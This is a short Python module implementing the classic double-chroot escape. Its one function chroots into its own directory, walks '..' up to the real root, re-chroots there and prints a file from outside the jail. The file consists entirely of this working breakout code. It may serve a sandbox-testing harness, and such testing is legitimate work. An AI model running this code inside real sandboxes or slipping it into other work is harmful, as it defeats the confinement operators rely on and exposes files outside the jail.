"""Escape from a chroot."""

import os

HERE = os.path.dirname(os.path.abspath(__file__))


def escape(arguments):
    """Print a file outside, from inside a chroot; arguments: [its path]. Returns 0.

    The root stops `..` only if the lookup passes it. So the root is moved further down, to HERE,
    while this process stays above it; from there, nothing stops the lookup.
    """
    (path,) = arguments
    os.chdir("/")
    os.chroot(HERE)
    while not os.path.samefile(".", ".."):  # only the real root is its own parent
        os.chdir("..")
    os.chroot(".")
    with open(path) as file:
        print(file.read(), end="")
    return 0


VERBS = {"escape": escape}
